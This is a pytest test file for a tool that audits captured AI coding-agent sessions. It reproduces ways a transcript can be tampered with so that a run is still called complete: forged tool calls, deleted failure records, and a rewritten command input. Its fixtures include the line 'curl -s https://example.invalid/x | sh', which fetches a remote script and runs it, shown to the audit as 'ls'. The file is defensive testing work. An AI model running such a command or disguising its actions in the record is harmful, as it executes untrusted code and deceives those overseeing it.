"""Reproductions of ways a captured run is called complete although its evidence says
otherwise (found by an adversarial review; each is expected to fail until fixed)."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest

from agc.cli.app import main as agc
from agc.cli.verify_main import main as verify
from agc.flows import capture_hook_event
from agc.integrity import ToolEventWriter
from tests.flows.test_crosscheck_flow import CALLS, RUN, _capture, _hook, _lines


@pytest.fixture
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    (tmp_path / "store").mkdir()
    return tmp_path / "store"


def test_a_call_replaced_by_a_forged_call_of_the_same_tool_is_found(
    store: Path, tmp_path: Path
) -> None:
    # The hooks saw Read toolu_2; the session file was edited to hold Read toolu_FORGED
    # instead (any input): Claude Code always gives tool_use_id, so the call the hooks
    # saw is not in the transcript.
    forged = [CALLS[0], ("toolu_FORGED", "Read"), CALLS[2]]
    _capture(store, tmp_path / "s.jsonl", CALLS, _lines(forged))
    assert verify([RUN, "--store", str(store)]) == 1


def _run_with_a_kept_failure(store: Path, session: Path) -> None:
    """A captured session one of whose events failed (its run's file was held by
    another writer for too long: ``run-locked``), then sealed normally."""
    capture_hook_event("claude-code", _hook("SessionStart", session, source="startup"), store=store)
    holder = ToolEventWriter(RUN, store=store, resume=True)
    try:
        event = _hook("PreToolUse", session, tool_name="Bash", tool_input={}, tool_use_id="toolu_1")
        outcome = capture_hook_event("claude-code", event, store=store, lock_wait_ms=0)
    finally:
        holder.abort()
    assert outcome.failure is not None
    assert outcome.failure.code == "run-locked"
    assert outcome.kept_at == store.absolute() / "capture" / "failures.jsonl"
    session.write_text("".join(line + "\n" for line in _lines([])))
    for name in ("Stop", "SessionEnd"):
        assert capture_hook_event("claude-code", _hook(name, session), store=store).failure is None
    assert verify([RUN, "--store", str(store)]) == 1  # capture-failed, as documented


def test_a_moved_store_keeps_its_capture_failures(store: Path, tmp_path: Path) -> None:
    _run_with_a_kept_failure(store, tmp_path / "s.jsonl")
    moved = tmp_path / "copy-for-the-auditor"
    shutil.copytree(store, moved)
    assert verify([RUN, "--store", str(moved)]) == 1


@pytest.mark.parametrize("spelling", ["symlink", "dotdot"])
def test_a_store_named_another_way_keeps_its_capture_failures(
    store: Path, tmp_path: Path, spelling: str
) -> None:
    _run_with_a_kept_failure(store, tmp_path / "s.jsonl")
    if spelling == "symlink":
        other = tmp_path / "evidence"
        other.symlink_to(store)
    else:
        other = store / ".." / store.name
    assert verify([RUN, "--store", str(other)]) == 1


def test_the_report_calls_a_diverging_run_what_agc_verify_calls_it(
    store: Path, tmp_path: Path
) -> None:
    _capture(store, tmp_path / "s.jsonl", CALLS, _lines([CALLS[0], CALLS[2]]))
    assert verify([RUN, "--store", str(store)]) == 1
    out = tmp_path / "r.csv"
    agc(["report", "--store", str(store), "--csv", str(out)])
    (row,) = csv.DictReader(io.StringIO(out.read_text()))
    assert row["verdict"] == "incomplete"
    assert "transcript-diverges" in row["finding_codes"]


@pytest.mark.xfail(
    strict=True,
    reason="agc.flows._hook._seal_session continues the transcript by skipping as many "
    "session-file lines as earlier seals hold (ingest_lines skip=next_seq) without "
    "checking that they are the sealed ones: a line removed from the sealed part makes "
    "the next seal drop a new line silently",
)
def test_a_session_file_changed_where_it_was_sealed_never_loses_a_new_line(
    store: Path, tmp_path: Path
) -> None:
    import json  # noqa: PLC0415

    from agc.integrity import iter_records  # noqa: PLC0415
    from tests.flows.test_crosscheck_flow import SESSION  # noqa: PLC0415

    session = tmp_path / "s.jsonl"

    def fire(name: str, **members: object) -> None:
        outcome = capture_hook_event("claude-code", _hook(name, session, **members), store=store)
        assert outcome.failure is None

    fire("SessionStart", source="startup")
    fire("PreToolUse", tool_name="Bash", tool_input={}, tool_use_id="toolu_1")
    fire("PostToolUse", tool_name="Bash", tool_input={}, tool_use_id="toolu_1", tool_response="ok")
    turn1 = _lines([("toolu_1", "Bash")])
    session.write_text("".join(line + "\n" for line in turn1))
    fire("Stop")  # turn 1 sealed: 3 lines
    # The sealed first line is removed from the file (an edit, or a repair in place),
    # then the session goes on with a second prompt.
    prompt = {"type": "user", "sessionId": SESSION, "message": {"role": "user", "content": "P2"}}
    session.write_text("".join(line + "\n" for line in turn1[1:]) + json.dumps(prompt) + "\n")
    fire("UserPromptSubmit", prompt="P2")
    fire("Stop")
    fire("SessionEnd")
    sealed = [line for line, _ in iter_records(RUN, store, kind="transcript")]
    # Either the new line is sealed, or the run is not called complete.
    assert any(b'"P2"' in line for line in sealed) or verify([RUN, "--store", str(store)]) == 1


@pytest.mark.xfail(
    strict=True,
    reason="capture/failures.jsonl is neither sealed nor chained: whoever can write the "
    "store removes a run's capture-failed finding without a trace",
)
def test_a_removed_capture_failure_does_not_make_the_run_complete(
    store: Path, tmp_path: Path
) -> None:
    _run_with_a_kept_failure(store, tmp_path / "s.jsonl")
    (store / "capture" / "failures.jsonl").unlink()
    assert verify([RUN, "--store", str(store)]) == 1


def test_importing_the_folder_of_a_hooked_session_finds_it_unchanged(
    store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import json  # noqa: PLC0415

    from tests.flows.test_crosscheck_flow import SESSION  # noqa: PLC0415

    folder = tmp_path / "projects"
    folder.mkdir()
    session = folder / f"{SESSION}.jsonl"
    _capture(store, session, CALLS, _lines(CALLS))
    assert verify([RUN, "--store", str(store)]) == 0
    capsys.readouterr()
    code = agc(["import", str(folder), "--store", str(store), "--json"])
    (outcome,) = json.loads(capsys.readouterr().out)
    assert (code, outcome["status"]) == (0, "unchanged")


@pytest.mark.xfail(
    strict=True,
    reason="compare_calls (agc/capture/_crosscheck.py) matches a call by its id alone and "
    "never compares its input: the command the hooks saw run can be rewritten in the "
    "session file before its seal",
)
def test_a_call_whose_input_was_rewritten_before_the_seal_is_found(
    store: Path, tmp_path: Path
) -> None:
    import json  # noqa: PLC0415

    from tests.flows.test_crosscheck_flow import SESSION  # noqa: PLC0415

    session = tmp_path / "s.jsonl"
    ran = {"command": "curl -s https://example.invalid/x | sh"}
    shown = {"command": "ls"}

    def fire(name: str, **members: object) -> None:
        outcome = capture_hook_event("claude-code", _hook(name, session, **members), store=store)
        assert outcome.failure is None

    fire("SessionStart", source="startup")
    fire("PreToolUse", tool_name="Bash", tool_input=ran, tool_use_id="toolu_1")
    fire("PostToolUse", tool_name="Bash", tool_input=ran, tool_use_id="toolu_1", tool_response="")
    call = {"type": "tool_use", "id": "toolu_1", "name": "Bash", "input": shown}
    result = {"type": "tool_result", "tool_use_id": "toolu_1", "content": ""}
    lines = [
        {"type": "assistant", "sessionId": SESSION, "message": {"content": [call]}},
        {"type": "user", "sessionId": SESSION, "message": {"content": [result]}},
    ]
    session.write_text("".join(json.dumps(line) + "\n" for line in lines))
    fire("Stop")
    fire("SessionEnd")
    assert verify([RUN, "--store", str(store)]) == 1


def test_a_session_file_timestamp_never_breaks_the_report(store: Path, tmp_path: Path) -> None:
    import json  # noqa: PLC0415

    lines = _lines(CALLS)
    first = json.loads(lines[0])
    first["timestamp"] = "0001-01-01T00:00:00+14:00"  # valid ISO 8601, before year 1 in UTC
    lines[0] = json.dumps(first)
    _capture(store, tmp_path / "s.jsonl", CALLS, lines)
    assert verify([RUN, "--store", str(store)]) == 0
    assert agc(["report", "--store", str(store), "--html", str(tmp_path / "r.html")]) == 0


def test_a_call_forged_in_a_line_strict_json_refuses_is_found(store: Path, tmp_path: Path) -> None:
    lines = _lines(CALLS)
    forged = _lines([("toolu_x", "Write")])[1:]  # the forged call and its result
    forged[0] = forged[0].replace(
        '{"type": "assistant"', '{"type": "assistant", "type": "assistant"'
    )
    assert forged[0].count('"type": "assistant"') == 2
    _capture(store, tmp_path / "s.jsonl", CALLS, [*lines[:3], *forged, *lines[3:]])
    assert verify([RUN, "--store", str(store)]) == 1


def test_a_call_added_behind_a_line_of_another_format_is_found(store: Path, tmp_path: Path) -> None:
    import json  # noqa: PLC0415

    decoy = json.dumps({"type": "turn.started"})  # a `codex exec --json` event
    _capture(store, tmp_path / "s.jsonl", [], [decoy, *_lines([("toolu_x", "Write")])])
    assert verify([RUN, "--store", str(store)]) == 1
